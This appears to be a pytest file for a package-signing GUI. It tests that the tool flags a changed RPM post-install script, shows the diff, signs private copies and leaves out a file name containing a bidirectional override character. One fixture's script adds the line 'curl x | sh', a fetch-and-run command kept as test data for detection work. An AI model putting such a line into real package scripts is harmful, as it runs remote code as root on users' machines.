"""Before signing: private copies, what changed since the earlier version, what is left out."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from signstation.errors import NameRefused
from signstation.gui.difference import DiffBlock
from signstation.gui.pages import PageName
from signstation.gui.sign import SignPage
from signstation.model.artifacts import Fact, FactSection, FactStyle, Inspection
from signstation.model.copies import RefusedItem
from signstation.model.orders import SignOrder
from signstation.model.station import Inspected
from signstation.model.text import Text
from signstation.model.versions import Earlier
from tests.support.window import Script
from tests.support.windowdata import NOW, RELEASE
from tests.support.windowdriver import Driver

OLD = Path("/srv/signed/acme-core-4.1.9-1.el9.x86_64.rpm")
NEW = RELEASE / "acme-core-4.2.0-1.el9.x86_64.rpm"


def _package(path: Path, script: str) -> Inspected:
    section = FactSection(
        "scripts",
        Text("Scripts run as root"),
        (Fact(Text("%post"), script, FactStyle.CODE),),
    )
    inspection = Inspection("rpm", path.stem, 1000, script.encode()[:32], (section,), (), ())
    return Inspected(path, inspection)


@pytest.fixture
def script() -> Script:
    """One package whose script changed since the version that was signed before."""
    return Script(inspections=(_package(NEW, "ldconfig\ncurl x | sh"), _package(OLD, "ldconfig")))


def _page(driver: Driver) -> SignPage:
    page = driver.page(PageName.SIGN, SignPage)
    script = driver.station.script
    both = {each.path: each for each in script.inspections}
    script.inspections = (both[NEW],)
    inspect = driver.station.inspect

    def inspecting(paths, format_id, on_result):  # type: ignore[no-untyped-def]  # noqa: ANN001, ANN202
        script.inspections = (both[OLD],) if OLD in paths else (both[NEW],)
        return inspect(paths, format_id, on_result)

    driver.station.inspect = inspecting  # type: ignore[method-assign]
    return page


def test_a_changed_script_is_a_finding_and_is_shown_line_by_line(driver: Driver) -> None:
    page = _page(driver)
    driver.station.release.earlier = (Earlier(NEW, OLD, None, NOW),)
    page.take((RELEASE,))
    driver.settle()
    findings = [finding.code for _, finding in page._flow.findings()]
    assert findings == ["difference.scripts"]
    assert "with 1 finding" in page._look.banner.headline
    page._look.tabs.setCurrentIndex(1)
    driver.settle()
    (block,) = page._look.changes.findChildren(DiffBlock)
    assert "+curl x | sh" in block.toPlainText()
    assert page._look.tabs.tabText(1) == "What changed (!)"


def test_an_earlier_version_that_was_changed_since_is_told(driver: Driver) -> None:
    page = _page(driver)
    driver.station.release.earlier = (Earlier(NEW, OLD, b"what was signed", NOW),)
    page.take((RELEASE,))
    driver.settle()
    codes = [finding.code for _, finding in page._flow.findings()]
    assert codes == ["difference.scripts", "difference.altered"]


def test_without_an_earlier_version_a_file_can_be_chosen(driver: Driver) -> None:
    page = _page(driver)
    page.take((RELEASE,))
    driver.settle()
    assert not page._flow.findings()
    page._look.changes.chosen.emit(OLD)
    driver.settle()
    assert [finding.code for _, finding in page._flow.findings()] == ["difference.scripts"]


def test_a_private_copy_is_what_is_signed(driver: Driver) -> None:
    page = _page(driver)
    error = json.dumps(NameRefused(path="b\\u202ead").to_wire())
    driver.station.release.copied = Path("/private/0")
    driver.station.release.refused = (RefusedItem("/media/x/b\\u202ead", error),)
    page.take((Path("/media/x/acme"),))
    driver.settle()
    assert page._flow.copy is not None
    assert page._flow.paths == (Path("/private/0/acme"),)
    assert page._flow.output == Path.home() / "signed/acme"
    assert page._flow.title() == "acme"
    assert "1 are left out" in page._look.banner.headline
    (asked,) = (order for name, order in driver.station.orders if name == "inspect")
    assert asked == ((Path("/private/0/acme"),), None)


def test_files_of_a_folder_keep_their_place_in_the_order(driver: Driver) -> None:
    page = _page(driver)
    flow = page._flow
    flow.begin((RELEASE, Path("/srv/single.rpm")))
    for path in (RELEASE / "a/x.rpm", Path("/srv/single.rpm")):
        flow.add(replace(_package(NEW, "x"), path=path))
    flow.learn_keys(driver.station.script.keys)
    orders = flow.orders()
    assert all(isinstance(each, SignOrder) for each in orders)
    assert [(each.root, each.paths) for each in orders] == [
        (RELEASE, (RELEASE / "a/x.rpm",)),
        (None, (Path("/srv/single.rpm"),)),
    ]
